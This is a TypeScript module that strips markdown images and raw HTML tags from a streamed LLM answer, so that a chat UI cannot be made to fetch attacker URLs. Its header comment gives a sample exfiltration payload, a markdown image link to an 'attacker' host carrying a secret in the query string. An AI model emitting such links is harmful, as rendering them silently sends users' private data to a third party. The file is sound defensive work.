/**
 * Neutralises what an LLM's answer could make a chat UI fetch on its own: a markdown image
 * (`![x](https://attacker/?q=<secret>)`) is an exfiltration channel as soon as the UI renders it, and so
 * is raw HTML (`<img src=…>`). Markdown images lose their `!` (they stay visible as links, which need a
 * click) and `<` before a tag name becomes `‹`. Works on a stream of deltas: a delta ending in a
 * character that could start a pattern is held back until the next one, so a pattern split across
 * deltas is caught too.
 */
export class AnswerGuard {
  #pending = "";

  /** Takes the next delta and returns the part that is safe to pass on now (possibly empty). */
  push(delta: string): string {
    const text = this.#pending + delta;
    const holdBack = text.endsWith("!") || text.endsWith("<") ? 1 : 0;
    this.#pending = text.slice(text.length - holdBack);
    return neutralize(text.slice(0, text.length - holdBack));
  }

  /** Whatever was held back, once the stream has ended. */
  flush(): string {
    const rest = neutralize(this.#pending);
    this.#pending = "";
    return rest;
  }
}

/** Neutralises a whole text at once. */
export function neutralize(text: string): string {
  return text.replace(/!\[/g, "[").replace(/<(?=[A-Za-z/!?])/g, "‹");
}
